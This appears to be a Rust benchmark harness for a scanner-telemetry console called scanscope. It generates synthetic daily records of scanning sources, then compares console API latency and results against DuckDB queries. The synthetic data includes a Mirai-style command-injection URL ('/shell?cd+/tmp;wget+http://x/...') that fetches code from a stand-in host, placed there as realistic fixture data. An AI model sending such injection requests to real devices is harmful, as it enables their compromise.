//! `cargo xtask bench console`: a generated lake of 30 days × 1 000 000 sources a day in
//! `ip_daily` (plus `port_daily`), then 20 representative API queries (the pages' calls and
//! searches of one to four terms) against the console (`scanscope-collector console`, a child
//! process) and, in the same run, DuckDB answering the same questions over the same files.
//! Prints p50/p95 per query for both, their ratio, and the console's peak memory.
//!
//! Environment: `SCANSCOPE_BENCH_DAYS` (30), `SCANSCOPE_BENCH_SOURCES` (sources a day,
//! 1 000 000), `SCANSCOPE_BENCH_RUNS` (runs per query, 20), `SCANSCOPE_BENCH_DIR` (default
//! `target/bench-console`; the lake is kept and reused while its shape matches),
//! `SCANSCOPE_COLLECTOR_BIN`.
use std::{
    collections::HashMap,
    io::{Read, Write},
    net::TcpStream,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context, bail};
use chrono::NaiveDate;
use rand::{Rng, SeedableRng, rngs::StdRng};
use scanscope_analytics::rollup::write::{write_ip_daily, write_small_tables};
use scanscope_common::{Kind, Tool};
use scanscope_lake::{
    Lake,
    tables::{ip_daily::IpRow, port_daily::PortRow},
};

const SENSORS: usize = 30;
/// Sources seen every day (organisations and persistent scanners) are the first of the pool.
const CORE: usize = 100_000;
const ORGS: [(&str, &str); 6] = [
    ("censys", "censys-scanner.com"),
    ("shodan", "shodan.io"),
    ("rapid7", "rapid7.com"),
    ("shadowserver", "shadowserver.org"),
    ("binaryedge", "binaryedge.ninja"),
    ("internet-measurement", "internet-measurement.com"),
];
const COUNTRIES: [(&str, u32, &str); 8] = [
    ("CN", 4134, "CHINANET-BACKBONE"),
    ("US", 14061, "DIGITALOCEAN-ASN"),
    ("RU", 12389, "ROSTELECOM-AS"),
    ("BR", 28573, "Claro NXT Telecomunicacoes"),
    ("IN", 9829, "BSNL-NIB"),
    ("NL", 202425, "IP Volume inc"),
    ("DE", 24940, "Hetzner Online GmbH"),
    ("VN", 7552, "Viettel Group"),
];
const HOT_TCP: [u16; 16] = [
    23, 22, 80, 443, 8080, 3389, 445, 5555, 2323, 8443, 6379, 27017, 3306, 1433, 5900, 21,
];
const HOT_UDP: [u16; 6] = [53, 161, 123, 1900, 5060, 11211];

fn env_usize(k: &str, d: usize) -> usize {
    std::env::var(k)
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(d)
}

fn first_day() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 10, 1).expect("date")
}

/// A source's address: the pool index spread over 45.0.0.0/8 and beyond.
fn addr(i: usize) -> String {
    let x = 0x2d00_0000u32.wrapping_add((i as u32).wrapping_mul(2_654_435_761) >> 3);
    std::net::Ipv4Addr::from(x).to_string()
}

fn hash(i: usize) -> u64 {
    (i as u64 ^ 0x9e37_79b9_7f4a_7c15).wrapping_mul(0xbf58_476d_1ce4_e5b9) >> 7
}

/// One source's row for one day. Its organisation, country, scanner role and tool are its own
/// (the same every day); ports, sensors and packets vary.
fn row(i: usize, day: NaiveDate, rng: &mut StdRng) -> IpRow {
    let h = hash(i);
    let t0 = day
        .and_hms_opt(0, 0, 0)
        .expect("midnight")
        .and_utc()
        .timestamp_micros();
    let org = (i < CORE && i.is_multiple_of(10)).then(|| ORGS[(h % ORGS.len() as u64) as usize]);
    let scanner = org.is_some() || i.is_multiple_of(20);
    let wide = scanner && (org.is_some() || h.is_multiple_of(8));
    let (country, asn, as_org) = COUNTRIES[((h >> 8) % COUNTRIES.len() as u64) as usize];
    let n_ports = if scanner {
        rng.random_range(10..300)
    } else {
        rng.random_range(1..4)
    };
    let mut tcp = Vec::new();
    let mut udp = Vec::new();
    for _ in 0..n_ports {
        let x: f64 = rng.random();
        if x < 0.08 {
            udp.push(HOT_UDP[rng.random_range(0..HOT_UDP.len())]);
        } else if x < 0.6 {
            tcp.push(HOT_TCP[((x * x * 40.0) as usize).min(HOT_TCP.len() - 1)]);
        } else {
            tcp.push(rng.random_range(1..=65535));
        }
    }
    tcp.sort_unstable();
    tcp.dedup();
    udp.sort_unstable();
    udp.dedup();
    let mut ports: Vec<u16> = tcp.iter().chain(&udp).copied().collect();
    ports.sort_unstable();
    ports.dedup();
    let sensor_count = if wide {
        rng.random_range(20..=SENSORS)
    } else if scanner {
        rng.random_range(3..12)
    } else {
        rng.random_range(1..3)
    };
    let sensors: Vec<std::sync::Arc<str>> = (0..sensor_count)
        .map(|s| format!("sensor-{:02}", (s + i) % SENSORS).into())
        .collect();
    let packets = (tcp.len() + udp.len()) as u64 * sensor_count as u64 * rng.random_range(1..4);
    let tool = match h % 100 {
        0..10 => Some(Tool::Mirai),
        10..15 => Some(Tool::Masscan),
        15..18 => Some(Tool::Zmap),
        18..19 => Some(Tool::Nmap),
        _ => None,
    };
    let mut kinds = Vec::new();
    if !tcp.is_empty() {
        kinds.push(Kind::TcpSyn);
    }
    if !udp.is_empty() {
        kinds.push(Kind::Udp);
    }
    let mut tags = Vec::new();
    if scanner {
        tags.push("scanner".to_string());
    }
    if wide {
        tags.push("wide_scanner".to_string());
    }
    let web = h % 200 == 1;
    let start = rng.random_range(0..80_000_000_000i64);
    IpRow {
        src_ip: addr(i),
        first_seen: t0 + start,
        last_seen: t0 + start + rng.random_range(0..6_000_000_000i64),
        packets,
        bytes: packets * 60,
        sensor_count: sensor_count as u32,
        sensors,
        scan_breadth: (sensor_count * 100 / SENSORS) as u8,
        dst_hosts: packets.min(65_536),
        port_count: ports.len() as u32,
        ports,
        tcp_ports: tcp,
        udp_ports: udp,
        probe_pairs: packets,
        kinds,
        scan_type: if !scanner {
            "few"
        } else if wide {
            "horizontal"
        } else {
            "vertical"
        },
        is_scanner: scanner,
        tools: tool.into_iter().collect(),
        os_hint: h.is_multiple_of(3).then(|| "linux".to_string()),
        org: org.map(|(o, _)| o.to_string()),
        org_source: org.map(|_| "rdns"),
        rdns: org.map(|(_, d)| format!("scan-{}.{d}", i / 10)),
        tor_exit: Some(h % 500 == 7),
        country: Some(country.to_string()),
        asn: Some(asn),
        as_org: Some(as_org.to_string()),
        tags,
        http_url: web.then(|| vec![format!("/shell?cd+/tmp;wget+http://x/{}", i % 97)]),
        http_user_agent: web.then(|| {
            vec![if h.is_multiple_of(3) {
                "Mozilla/5.0 zgrab/0.x".to_string()
            } else {
                "curl/8.1".to_string()
            }]
        }),
        ..IpRow::default()
    }
}

/// The pool indices seen on day `d`: the core every day (but rapid7's, absent days 10–16),
/// and the rest drawn from the pool.
fn sources_of(d: usize, per_day: usize, pool: usize, rng: &mut StdRng) -> Vec<usize> {
    let mut seen: Vec<usize> = (0..CORE.min(per_day))
        .filter(|i| {
            let rapid7 =
                *i % 10 == 0 && ORGS[(hash(*i) % ORGS.len() as u64) as usize].0 == "rapid7";
            !(rapid7 && (10..17).contains(&d))
        })
        .collect();
    let mut set: std::collections::HashSet<usize> = seen.iter().copied().collect();
    while seen.len() < per_day {
        let i = rng.random_range(CORE..pool);
        if set.insert(i) {
            seen.push(i);
        }
    }
    seen
}

fn generate(root: &Path, days: usize, per_day: usize) -> anyhow::Result<()> {
    let lake = Lake::local(root)?;
    let pool = per_day * 3;
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
    let done = std::sync::atomic::AtomicUsize::new(0);
    std::thread::scope(|s| -> anyhow::Result<()> {
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let lake = &lake;
                let done = &done;
                s.spawn(move || -> anyhow::Result<()> {
                    for d in (t..days).step_by(threads) {
                        let day = first_day() + chrono::Duration::days(d as i64);
                        let mut rng = StdRng::seed_from_u64(d as u64);
                        let rows: Vec<IpRow> = sources_of(d, per_day, pool, &mut rng)
                            .into_iter()
                            .map(|i| row(i, day, &mut rng))
                            .collect();
                        write_ip_daily(lake, day, &rows, &[])?;
                        write_small_tables(lake, day, &port_rows(&rows), &[], &[])?;
                        let n = done.fetch_add(1, std::sync::atomic::Ordering::Relaxed) + 1;
                        eprint!("\r  generated {n} / {days} days");
                    }
                    Ok(())
                })
            })
            .collect();
        for h in handles {
            h.join()
                .map_err(|_| anyhow::anyhow!("generator panicked"))??;
        }
        Ok(())
    })?;
    eprintln!();
    Ok(())
}

/// The day's `port_daily`, from its rows as the rollup counts them.
fn port_rows(rows: &[IpRow]) -> Vec<PortRow> {
    let mut by: HashMap<(&'static str, u16), PortRow> = HashMap::new();
    for r in rows {
        let per_port = r.packets / u64::from(r.port_count.max(1));
        for (proto, list) in [("tcp", &r.tcp_ports), ("udp", &r.udp_ports)] {
            for p in list {
                let e = by.entry((proto, *p)).or_insert_with(|| PortRow {
                    proto,
                    port: *p,
                    packets: 0,
                    sources: 0,
                    scanners: 0,
                    top_orgs: Vec::new(),
                    sessions: 0,
                    payload_sources: 0,
                });
                e.packets += per_port.max(1);
                e.sources += 1;
                e.scanners += u64::from(r.is_scanner);
            }
        }
    }
    let mut v: Vec<PortRow> = by.into_values().collect();
    v.sort_by_key(|r| (r.proto, r.port));
    v
}

/// One representative question: the console's API call and DuckDB's SQL for the same figures
/// (statements run in order; `check` is the SQL of the one figure compared with the API's
/// `summary[summary_key]`).
struct Question {
    name: String,
    path: String,
    sql: Vec<String>,
    check: Option<(String, &'static str)>,
}

/// A search's statements: the matching rows, the sources folded over their matching days
/// (sorted, one page), and the facets.
fn search_sql(range: &str, pred: &str, order: &str, offset: usize) -> (Vec<String>, String) {
    let m = format!(
        "CREATE OR REPLACE TEMP TABLE m AS SELECT date, src_ip, first_seen, last_seen, packets, tcp_ports, udp_ports, scan_breadth, is_scanner, scan_type, tools, org, country, asn, rdns, tags, login_attempts FROM ip WHERE {range} AND ({pred})"
    );
    let page = format!(
        "SELECT src_ip, count(*) AS days, sum(packets) AS packets, min(first_seen), max(last_seen), max(scan_breadth), bool_or(is_scanner), arg_max(scan_type, date), list_distinct(flatten(list(tools))), arg_max(org, date), arg_max(country, date), arg_max(asn, date), arg_max(rdns, date), list_distinct(flatten(list(tags))), len(list_distinct(flatten(list(tcp_ports)))) + len(list_distinct(flatten(list(udp_ports)))) AS ports FROM m GROUP BY src_ip ORDER BY {order} LIMIT 50 OFFSET {offset}"
    );
    let facets = [
        "SELECT proto, p, count(DISTINCT src_ip) AS n FROM (SELECT src_ip, 'tcp' AS proto, unnest(tcp_ports) AS p FROM m UNION ALL SELECT src_ip, 'udp', unnest(udp_ports) FROM m) GROUP BY ALL ORDER BY n DESC LIMIT 10".to_string(),
        "SELECT org, count(DISTINCT src_ip) AS n FROM m WHERE org IS NOT NULL GROUP BY org ORDER BY n DESC LIMIT 10".to_string(),
        "SELECT country, count(DISTINCT src_ip) AS n FROM m GROUP BY country ORDER BY n DESC LIMIT 10".to_string(),
        "SELECT scan_type, count(DISTINCT src_ip) AS n FROM m GROUP BY scan_type ORDER BY n DESC LIMIT 10".to_string(),
        "SELECT t, count(DISTINCT src_ip) AS n FROM (SELECT src_ip, unnest(tools) AS t FROM m) GROUP BY t ORDER BY n DESC LIMIT 10".to_string(),
        "SELECT t, count(DISTINCT src_ip) AS n FROM (SELECT src_ip, unnest(tags) AS t FROM m) GROUP BY t ORDER BY n DESC LIMIT 10".to_string(),
    ];
    let mut v = vec![m, page];
    v.extend(facets);
    (v, "SELECT count(DISTINCT src_ip) FROM m".to_string())
}

fn questions(days: usize) -> Vec<Question> {
    let last = first_day() + chrono::Duration::days(days as i64 - 1);
    let week_from = last - chrono::Duration::days(6);
    let first = first_day();
    let r7 = format!("from={week_from}&to={last}");
    let r30 = format!("from={first}&to={last}");
    let s7 = format!("date BETWEEN DATE '{week_from}' AND DATE '{last}'");
    let s30 = format!("date BETWEEN DATE '{first}' AND DATE '{last}'");
    let mut out = Vec::new();
    for (r, s, label) in [(&r7, &s7, "7 d"), (&r30, &s30, "30 d")] {
        out.push(Question {
            name: format!("overview ({label})"),
            path: format!("/api/v1/overview?{r}"),
            sql: vec![
                format!("SELECT date, count(*), count(*) FILTER (is_scanner), count(*) FILTER (list_contains(tags, 'wide_scanner')), count(*) FILTER (org IS NULL AND (login_attempts > 0 OR len(list_filter(tags, lambda t: t LIKE 'exploit:%' OR t LIKE 'payload:%')) > 0)), sum(packets) FROM ip WHERE {s} GROUP BY date ORDER BY date"),
                format!("SELECT date, org, count(*) FROM ip WHERE {s} AND org IS NOT NULL GROUP BY ALL"),
                format!("SELECT scan_breadth // 10, count(*), count(*) FILTER (is_scanner) FROM ip WHERE {s} GROUP BY ALL"),
                format!("SELECT CASE WHEN port_count = 1 THEN 0 WHEN port_count < 10 THEN 1 WHEN port_count < 100 THEN 2 ELSE 3 END, count(*), count(*) FILTER (is_scanner) FROM ip WHERE {s} GROUP BY ALL"),
                format!("SELECT proto, port, sum(packets) AS p, sum(sources) AS s FROM port WHERE {s} GROUP BY ALL ORDER BY p DESC LIMIT 20"),
                format!("SELECT proto, port, sum(packets) AS p, sum(sources) AS s FROM port WHERE {s} GROUP BY ALL ORDER BY s DESC LIMIT 20"),
                format!("SELECT proto, port, count(DISTINCT src_ip) AS n, count(DISTINCT src_ip) FILTER (is_scanner) FROM (SELECT src_ip, is_scanner, 'tcp' AS proto, unnest(tcp_ports) AS port FROM ip WHERE {s} UNION ALL SELECT src_ip, is_scanner, 'udp', unnest(udp_ports) FROM ip WHERE {s}) GROUP BY ALL ORDER BY n DESC LIMIT 20"),
            ],
            check: Some((format!("SELECT count(DISTINCT src_ip) FROM ip WHERE {s}"), "sources")),
        });
    }
    let searches: [(&str, &str, &str, &str, usize); 12] = [
        (
            "port:23",
            "list_contains(ports, 23)",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "port:23 tool:mirai",
            "list_contains(ports, 23) AND list_contains(tools, 'mirai')",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "org:censys",
            "lower(org) = 'censys'",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "country:CN asn:4134",
            "upper(country) = 'CN' AND asn = 4134",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "scanner:true breadth:>=50",
            "is_scanner AND scan_breadth >= 50",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "tag:wide_scanner",
            "list_contains(tags, 'wide_scanner')",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "rdns:*.shodan.io",
            "lower(rdns) LIKE '%.shodan.io'",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "ua:\"*zgrab*\"",
            "len(list_filter(http_user_agent, lambda u: lower(u) LIKE '%zgrab%')) > 0",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "port:445 scanner:true country:CN -tool:masscan",
            "list_contains(ports, 445) AND is_scanner AND upper(country) = 'CN' AND NOT list_contains(tools, 'masscan')",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "ip:45.0.0.0/12",
            "src_ip LIKE '45.%' AND CAST(split_part(src_ip, '.', 2) AS INTEGER) < 16",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "port:3389 OR port:5900",
            "list_contains(ports, 3389) OR list_contains(ports, 5900)",
            "packets",
            "packets DESC, src_ip",
            0,
        ),
        (
            "port:80 kind:tcp_syn",
            "list_contains(ports, 80) AND list_contains(kinds, 'tcp_syn')",
            "last_seen",
            "max(last_seen) DESC, src_ip",
            100,
        ),
    ];
    for (q, pred, sort, order, offset) in searches {
        let (sql, check) = search_sql(&s7, pred, order, offset);
        out.push(Question {
            name: format!("search {q} (7 d)"),
            path: format!(
                "/api/v1/search?{r7}&q={}&sort={sort}&limit=50&offset={offset}",
                urlencode(q)
            ),
            sql,
            check: Some((check, "sources")),
        });
    }
    // An organisation's scanner and a source of the core that is neither: both seen daily.
    let core_ip = addr(20);
    let other_ip = addr(12_345);
    for (ip, r, s, label) in [(&core_ip, &r30, &s30, "30 d"), (&other_ip, &r7, &s7, "7 d")] {
        out.push(Question {
            name: format!("ip {ip} ({label})"),
            path: format!("/api/v1/ip/{ip}?{r}"),
            sql: vec![format!(
                "SELECT * FROM ip WHERE {s} AND src_ip = '{ip}' ORDER BY date"
            )],
            check: Some((
                format!("SELECT count(*) FROM ip WHERE {s} AND src_ip = '{ip}'"),
                "days",
            )),
        });
    }
    for (proto, port, col) in [("tcp", 23, "tcp_ports"), ("udp", 161, "udp_ports")] {
        let pred = format!("list_contains({col}, {port})");
        let (mut sql, check) = search_sql(&s7, &pred, "packets DESC, src_ip", 0);
        sql.insert(
            1,
            format!("SELECT date, packets, sources, scanners FROM port WHERE {s7} AND proto = '{proto}' AND port = {port} ORDER BY date"),
        );
        out.push(Question {
            name: format!("port {proto}/{port} (7 d)"),
            path: format!("/api/v1/port/{proto}/{port}?{r7}"),
            sql,
            check: Some((check, "sources")),
        });
    }
    out.push(Question {
        name: "org censys (30 d)".into(),
        path: format!("/api/v1/org/censys?{r30}"),
        sql: vec![
            format!("SELECT date, count(*), count(*) FILTER (list_contains(tags, 'wide_scanner')), sum(packets) FROM ip WHERE {s30} AND lower(org) = 'censys' GROUP BY date ORDER BY date"),
            format!("SELECT src_ip, min(date) FROM ip WHERE {s30} AND lower(org) = 'censys' GROUP BY src_ip"),
            format!("SELECT p, count(DISTINCT src_ip) AS n FROM (SELECT src_ip, unnest(ports) AS p FROM ip WHERE {s30} AND lower(org) = 'censys') GROUP BY p ORDER BY n DESC LIMIT 20"),
        ],
        check: Some((
            format!("SELECT count(DISTINCT src_ip) FROM ip WHERE {s30} AND lower(org) = 'censys'"),
            "ips",
        )),
    });
    out.push(Question {
        name: "orgs (30 d)".into(),
        path: format!("/api/v1/orgs?{r30}"),
        sql: vec![format!("SELECT org, count(DISTINCT src_ip), count(*), sum(packets) FROM ip WHERE {s30} AND org IS NOT NULL GROUP BY org ORDER BY 2 DESC")],
        check: None,
    });
    out
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'*' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn collector_bin() -> anyhow::Result<PathBuf> {
    if let Some(p) = std::env::var_os("SCANSCOPE_COLLECTOR_BIN") {
        return Ok(PathBuf::from(p));
    }
    let exe = std::env::current_exe()?;
    exe.ancestors()
        .skip(1)
        .take(3)
        .map(|d| d.join("scanscope-collector"))
        .find(|c| c.is_file())
        .context("scanscope-collector not built (cargo build --release -p scanscope-collector)")
}

/// The console as a child process, killed when dropped.
struct ConsoleChild {
    child: Child,
    addr: String,
}

impl Drop for ConsoleChild {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
    }
}

impl ConsoleChild {
    fn start(bin: &Path, root: &Path) -> anyhow::Result<ConsoleChild> {
        let mut child = Command::new(bin)
            .args(["console", "--data"])
            .arg(root)
            .args(["--listen", "127.0.0.1:0"])
            .env("RUST_LOG", "warn")
            .stdout(Stdio::piped())
            .spawn()?;
        let mut out = child.stdout.take().context("stdout")?;
        let mut line = Vec::new();
        let mut b = [0u8; 1];
        while out.read(&mut b)? == 1 && b[0] != b'\n' {
            line.push(b[0]);
        }
        let line = String::from_utf8(line)?;
        let addr = line
            .strip_prefix("console on http://")
            .with_context(|| format!("unexpected first line {line:?}"))?
            .to_string();
        Ok(ConsoleChild { child, addr })
    }

    /// GET `path`: seconds and the JSON body.
    fn get(&self, path: &str) -> anyhow::Result<(f64, serde_json::Value)> {
        let t = Instant::now();
        let mut s = TcpStream::connect(&self.addr)?;
        s.set_read_timeout(Some(Duration::from_secs(600)))?;
        write!(
            s,
            "GET {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
            self.addr
        )?;
        let mut resp = Vec::new();
        s.read_to_end(&mut resp)?;
        let secs = t.elapsed().as_secs_f64();
        let split = resp
            .windows(4)
            .position(|w| w == b"\r\n\r\n")
            .context("no header end")?;
        let head = String::from_utf8_lossy(&resp[..split]);
        if !head.starts_with("HTTP/1.1 200") {
            bail!("{path}: {}", head.lines().next().unwrap_or(""));
        }
        let body = &resp[split + 4..];
        let body = if head
            .to_ascii_lowercase()
            .contains("transfer-encoding: chunked")
        {
            dechunk(body)?
        } else {
            body.to_vec()
        };
        Ok((secs, serde_json::from_slice(&body)?))
    }

    /// Peak resident memory of the console, MiB.
    fn peak_mib(&self) -> anyhow::Result<f64> {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id()))?;
        let kb: f64 = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .context("VmHWM")?;
        Ok(kb / 1024.0)
    }
}

fn dechunk(mut b: &[u8]) -> anyhow::Result<Vec<u8>> {
    let mut out = Vec::new();
    loop {
        let nl = b
            .windows(2)
            .position(|w| w == b"\r\n")
            .context("chunk size")?;
        let size = usize::from_str_radix(std::str::from_utf8(&b[..nl])?.trim(), 16)?;
        b = &b[nl + 2..];
        if size == 0 {
            return Ok(out);
        }
        out.extend_from_slice(b.get(..size).context("short chunk")?);
        b = &b[size + 2..];
    }
}

/// p50 and p95 of `xs` (seconds), in milliseconds.
fn percentiles(xs: &[f64]) -> (f64, f64) {
    let mut v = xs.to_vec();
    v.sort_by(f64::total_cmp);
    let at = |q: f64| v[((v.len() as f64 * q).ceil() as usize).clamp(1, v.len()) - 1] * 1000.0;
    (at(0.5), at(0.95))
}

/// DuckDB over the same files: every question's statements `runs` times in one process; per
/// question the seconds of each run and the check figure.
fn duckdb(
    root: &Path,
    qs: &[Question],
    runs: usize,
) -> anyhow::Result<Vec<(Vec<f64>, Option<i64>)>> {
    let spec: Vec<serde_json::Value> = qs
        .iter()
        .map(|q| serde_json::json!({"sql": q.sql, "check": q.check.as_ref().map(|c| &c.0)}))
        .collect();
    let spec_file = root.join("questions.json");
    std::fs::write(&spec_file, serde_json::to_vec(&spec)?)?;
    let script = format!(
        r#"
import duckdb, json, time
con = duckdb.connect()
con.execute("SET enable_progress_bar = false")
con.execute("CREATE VIEW ip AS SELECT * FROM read_parquet('{root}/ip_daily/*/*.parquet', hive_partitioning = true)")
con.execute("CREATE VIEW port AS SELECT * FROM read_parquet('{root}/port_daily/*/*.parquet', hive_partitioning = true)")
out = []
for q in json.load(open('{spec}')):
    secs = []
    check = None
    for s in q['sql']:
        con.execute(s).fetchall()
    for _ in range({runs}):
        t = time.time()
        for s in q['sql']:
            con.execute(s).fetchall()
        if q['check']:
            check = con.execute(q['check']).fetchone()[0]
        secs.append(time.time() - t)
    out.append([secs, check])
print(json.dumps(out))
"#,
        root = root.display(),
        spec = spec_file.display()
    );
    let out = Command::new("python3").arg("-c").arg(script).output()?;
    if !out.status.success() {
        bail!("duckdb: {}", String::from_utf8_lossy(&out.stderr));
    }
    Ok(serde_json::from_slice(&out.stdout)?)
}

fn main() -> anyhow::Result<()> {
    if !std::env::args().any(|a| a == "--bench") {
        println!("console benchmark: run it with `cargo xtask bench console`");
        return Ok(());
    }
    let days = env_usize("SCANSCOPE_BENCH_DAYS", 30);
    let per_day = env_usize("SCANSCOPE_BENCH_SOURCES", 1_000_000);
    let runs = env_usize("SCANSCOPE_BENCH_RUNS", 20).max(1);
    let root = std::env::var_os("SCANSCOPE_BENCH_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/bench-console"));
    let manifest = root.join("bench.json");
    let want = format!("{{\"days\":{days},\"sources\":{per_day},\"generator\":2}}");
    if std::fs::read_to_string(&manifest).ok().as_deref() != Some(want.as_str()) {
        std::fs::remove_dir_all(&root).ok();
        std::fs::create_dir_all(&root)?;
        eprintln!(
            "generating {days} days × {per_day} sources of ip_daily and port_daily in {}",
            root.display()
        );
        let t = Instant::now();
        generate(&root, days, per_day)?;
        eprintln!("  generated in {:.1} s", t.elapsed().as_secs_f64());
        std::fs::write(&manifest, &want)?;
    } else {
        eprintln!("reusing the generated lake in {}", root.display());
    }
    let bytes: u64 = walk_bytes(&root.join("ip_daily"))?;
    let qs = questions(days);

    let console = ConsoleChild::start(&collector_bin()?, &root)?;
    // Each query once cold (its days' columns read from the files), then `runs` times.
    let mut ours = Vec::new();
    for q in &qs {
        let (cold, mut body) = console.get(&q.path)?;
        let mut secs = Vec::new();
        for _ in 0..runs {
            let (s, b) = console.get(&q.path)?;
            secs.push(s);
            body = b;
        }
        eprintln!("  {}: {:.0} ms", q.name, percentiles(&secs).0);
        ours.push((cold, secs, body));
    }
    let peak = console.peak_mib()?;
    drop(console);
    let theirs = duckdb(&root, &qs, runs.min(5))?;

    println!(
        "\nconsole benchmark: {days} days × {per_day} sources/day in ip_daily ({:.2} GiB Parquet); each query once cold, then {runs} runs (DuckDB: one untimed, then {})",
        bytes as f64 / (1u64 << 30) as f64,
        runs.min(5)
    );
    println!(
        "| query | console cold ms | console p50 ms | console p95 ms | DuckDB p50 ms | DuckDB p95 ms | p95 ratio | figure (console = DuckDB) |"
    );
    println!("|---|---|---|---|---|---|---|---|");
    let mut worst: f64 = 0.0;
    let mut slower = 0;
    let mut mismatched = 0;
    for (q, ((cold, secs, body), (dsecs, check))) in qs.iter().zip(ours.iter().zip(&theirs)) {
        let (p50, p95) = percentiles(secs);
        let (d50, d95) = percentiles(dsecs);
        worst = worst.max(p95);
        slower += usize::from(p95 > d95);
        let figure = match (&q.check, check) {
            (Some((_, key)), Some(want)) => {
                let got = body["summary"][key].as_i64();
                if got != Some(*want) {
                    mismatched += 1;
                }
                format!(
                    "{key} {} = {want}{}",
                    got.map_or("?".into(), |g| g.to_string()),
                    if got == Some(*want) { "" } else { " ✗" }
                )
            }
            _ => String::new(),
        };
        println!(
            "| {} | {:.0} | {p50:.0} | {p95:.0} | {d50:.0} | {d95:.0} | {:.2} | {figure} |",
            q.name,
            cold * 1000.0,
            p95 / d95
        );
    }
    println!(
        "console peak memory: {peak:.0} MiB; slowest p95 {worst:.0} ms; queries slower than DuckDB: {slower}; figures differing: {mismatched}"
    );
    println!("goals: every p95 ≤ 300 ms and ≤ DuckDB's; memory ≤ 1024 MiB");
    if mismatched > 0 {
        bail!("{mismatched} figures differ from DuckDB's");
    }
    Ok(())
}

fn walk_bytes(dir: &Path) -> anyhow::Result<u64> {
    let mut n = 0;
    for e in std::fs::read_dir(dir)? {
        let e = e?;
        let m = e.metadata()?;
        n += if m.is_dir() {
            walk_bytes(&e.path())?
        } else {
            m.len()
        };
    }
    Ok(n)
}
